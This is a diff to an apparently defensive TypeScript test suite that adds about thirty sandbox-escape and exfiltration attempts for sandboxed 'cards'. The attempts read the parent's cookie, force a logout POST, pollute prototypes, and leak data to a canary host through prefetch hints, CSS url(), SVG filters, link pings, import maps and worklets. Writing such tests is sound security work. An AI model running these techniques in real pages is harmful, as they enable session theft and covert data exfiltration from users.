@@ -22,6 +22,10 @@ const reaching = (): string[] => [
   `navigator.locks.request('outbox', () => new Promise(() => {})).catch(() => {})`,
   `navigator.serviceWorker.register('/sw.js').catch(() => {})`,
   `navigator.credentials.get({ password: true }).catch(() => {})`,
+  `document.requestStorageAccess().catch(() => {})`,
+  `window.name = 'stolen'; parent.name = 'stolen'`,
+  `parent.document.cookie; parent.fetch('/api/v1/auth/logout', { method: 'POST' })`,
+  `Object.getPrototypeOf(parent).stolen = 1`,
   `navigator.clipboard.readText().then(() => parent.postMessage('stolen', '*'), () => {})`,
 ]
 
@@ -60,6 +64,20 @@ const asking = (canary: string): string[] => [
   `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:1' }] }).createDataChannel('x')`,
   `new WebTransport('${canary.replace('http', 'https')}/transport')`,
   `new ReportingObserver(() => {}); fetch('${canary}/report', { method: 'POST', keepalive: true }).catch(() => {})`,
+  html(`<link rel="dns-prefetch" href="${canary}"><link rel="preconnect" href="${canary}">`),
+  html(
+    `<svg><filter id="f"><feImage href="${canary}/feimage"/></filter></svg><p style="filter:url(${canary}/filter#f)">x</p>`,
+  ),
+  html(
+    `<p style="cursor:url(${canary}/cursor),auto;mask:url(${canary}/mask);border-image:url(${canary}/border) 1">x</p>`,
+  ),
+  html(`<a href="${canary}/pinged" ping="${canary}/ping" attributionsrc="${canary}/attribution">x</a>`),
+  `const r = document.createElement('script'); r.type = 'speculationrules'; r.textContent = '{"prefetch":[{"urls":["${canary}/speculation"]}]}'; document.head.append(r)`,
+  `const m = document.createElement('script'); m.type = 'importmap'; m.textContent = '{"imports":{"x":"${canary}/map.js"}}'; document.head.append(m); import('x').catch(() => {})`,
+  `fetchLater('${canary}/later')`,
+  `document.body.style.setProperty('--x', 'url(${canary}/property)'); document.body.style.background = 'var(--x)'`,
+  `CSS.paintWorklet.addModule('${canary}/worklet').catch(() => {})`,
+  `new AudioContext().audioWorklet.addModule('${canary}/audio').catch(() => {})`,
   `$.get('${canary}/jquery'); $('body').load('${canary}/load')`,
 ]
 
@@ -133,7 +151,7 @@ const speaking = (): string[] => {
   ]
 }
 
-/** Some sixty ways to do what a card must not (security.md S6), each the script of a document. */
+/** Some ninety ways to do what a card must not (security.md S6), each the script of a document. */
 export const attempts = (canary: string): string[] => [
   ...reaching(),
   ...asking(canary),
